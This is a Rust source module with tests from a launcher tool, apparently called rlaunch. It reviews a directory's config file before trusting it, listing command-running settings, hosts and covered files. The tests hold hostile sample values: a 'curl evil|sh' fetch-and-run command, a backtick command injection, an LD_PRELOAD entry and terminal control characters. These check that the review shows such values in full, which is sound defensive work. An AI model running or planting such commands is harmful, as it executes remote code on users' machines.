//! Review of a file before it is trusted: what it would do then.

use super::error::{ConfigError, FILE, Place};
use super::file::{self, Setting, Value};
use super::named::{self, NamedFile};
use super::{TrustStore, find, merge, stranger};
use crate::hosts::host_table::HostEntry;
use clap::Command;
use rlaunch_console::process_env::ProcessEnv;
use std::path::{Path, PathBuf};

/// A file that was read, to be trusted as it was read.
#[derive(Clone, Debug)]
pub(crate) struct Review {
    path: PathBuf,
    text: String,
    /// The files that trust covers beside it, as they are now.
    named: Vec<NamedFile>,
    /// Its effects that need trust, a line each.
    pub(crate) lines: Vec<String>,
}

impl Review {
    /// Reads a file that a working directory may have; `all` knows every option.
    pub(crate) fn of(path: &Path, mut all: Command) -> Result<Review, ConfigError> {
        all.build();
        if path.file_name().is_none_or(|name| name != FILE) {
            return Err(ConfigError::NeedsNoTrust(path.to_owned()));
        }
        let text = find::guarded(path)?.ok_or_else(|| ConfigError::Missing(path.to_owned()))?;
        let file = file::parse(&text, path)?;
        let mut found: Vec<(usize, String)> = Vec::new();
        for setting in file.list.iter().chain(&file.defaults) {
            found.extend(line(&all, setting, "")?);
        }
        for (name, settings) in &file.profiles {
            let section = format!("[profile.{}] ", name.escape_debug());
            for setting in settings {
                found.extend(line(&all, setting, &section)?);
            }
        }
        found.extend(file.hosts.iter().filter_map(|host| Some((host.line, of_host(host)?))));
        let named = named::of(&all, &file, path);
        found.extend(named.iter().filter_map(|named| Some((named.line, of_file(named)?))));
        found.sort_by_key(|(line, _)| *line);
        let shown = |(line, text): (usize, String)| format!("{}:{line}: {text}", path.display());
        let lines = found.into_iter().map(shown).collect();
        Ok(Review { path: path.to_owned(), text, named, lines })
    }

    /// Lets the file, and those that it names, count as they were read.
    pub(crate) fn trust(&self, around: &ProcessEnv) -> Result<(), ConfigError> {
        TrustStore::of(around)?.trust(&self.path, &self.text, &self.named)
    }
}

/// Says what a setting does, with its line. Harmless settings are left out, except in a profile: a
/// profile counts as a whole or not at all. Values are shown in full, what looks like a secret as
/// well: a command could hide behind it.
fn line(
    all: &Command,
    setting: &Setting,
    section: &str,
) -> Result<Option<(usize, String)>, ConfigError> {
    let given = merge::check(all, setting)?;
    let is_harmless = stranger::is_harmless(&given);
    let Place::Line(_, line) = given.place else { return Ok(None) };
    if is_harmless && section.is_empty() {
        return Ok(None);
    }
    let quoted = |text: &String| format!("{text:?}");
    let value = match &setting.value {
        Value::Flag(flag) => flag.to_string(),
        Value::Text(text) => quoted(text),
        Value::List(texts) => texts.iter().map(quoted).collect::<Vec<_>>().join(", "),
    };
    let effect = if is_harmless { "" } else { stranger::effect(&given.long) };
    let colon = if effect.is_empty() { "" } else { ": " };
    Ok(Some((line, format!("{section}{} = {value}{colon}{effect}", setting.key))))
}

/// Says that a file's content is trusted as it is. Words of a command that name no file are left out.
fn of_file(named: &NamedFile) -> Option<String> {
    let name = &named.name;
    match &named.digest {
        Some(_) => Some(format!("file {name:?}: trusted with its present content")),
        None if named.is_word => None,
        None => Some(format!("file {name:?}: is not there, and not trusted once it is")),
    }
}

/// Says how a host is reached according to the file.
fn of_host(host: &HostEntry) -> Option<String> {
    let words = [
        host.ssh.as_ref().map(|ssh| format!("ssh {ssh:?}")),
        host.user.as_ref().map(|user| format!("user {user:?}")),
        host.port.map(|port| format!("port {port}")),
        host.slots.map(|slots| format!("slots {slots}")),
        (!host.mesh.is_empty()).then(|| "mesh".to_owned()),
    ];
    let words: Vec<String> = words.into_iter().flatten().collect();
    (!words.is_empty()).then(|| format!("host {:?}: {}", host.name, words.join(", ")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cli::args::Args;
    use clap::CommandFactory;
    use std::fs;

    fn reviewed(text: &str, files: &[&str]) -> String {
        let scratch = tempfile::tempdir().unwrap();
        let path = scratch.path().join(FILE);
        fs::write(&path, text).unwrap();
        for file in files {
            fs::write(scratch.path().join(file), "").unwrap();
        }
        let lines = Review::of(&path, Args::command()).unwrap().lines.join("\n");
        lines.replace(&format!("{}/", scratch.path().display()), "")
    }

    #[test]
    fn values_are_shown_in_full_but_for_control_characters() {
        let long = "x".repeat(5000);
        for (value, shown) in [
            (
                "env SSH_AUTH_SOCK=x sh -c 'curl evil|sh' --",
                "env SSH_AUTH_SOCK=x sh -c 'curl evil|sh' --",
            ),
            ("nc pg://u:`id>pwned`@h", "nc pg://u:`id>pwned`@h"),
            ("a\\u001b[2J\\u202Eb", "a\\u{1b}[2J\\u{202e}b"),
            (&long, &long),
        ] {
            let lines = reviewed(&format!("[defaults]\nrsh = \"{value}\"\n"), &[]);
            let expected =
                format!("rlaunch.toml:2: rsh = \"{shown}\": runs a command on this machine");
            assert_eq!(lines, expected);
        }
        let env = "[profile.x]\nenv = [\"A_KEY=1\", \"LD_PRELOAD=/e\"]\n";
        assert!(reviewed(env, &[]).contains("env = \"A_KEY=1\", \"LD_PRELOAD=/e\": sets "));
    }

    #[test]
    fn files_that_are_covered_are_listed() {
        let text = "[defaults]\nrsh = \"ssh -F c.cfg x\"\nenv-file = [\"e\", \"none\"]\n";
        let lines = reviewed(text, &["c.cfg", "e"]);
        for line in [
            "rlaunch.toml:2: file \"c.cfg\": trusted with its present content",
            "rlaunch.toml:3: file \"e\": trusted with its present content",
            "rlaunch.toml:3: file \"none\": is not there, and not trusted once it is",
        ] {
            assert!(lines.contains(line), "no {line}: {lines}");
        }
        assert_eq!(lines.lines().count(), 5, "{lines}");
    }
}
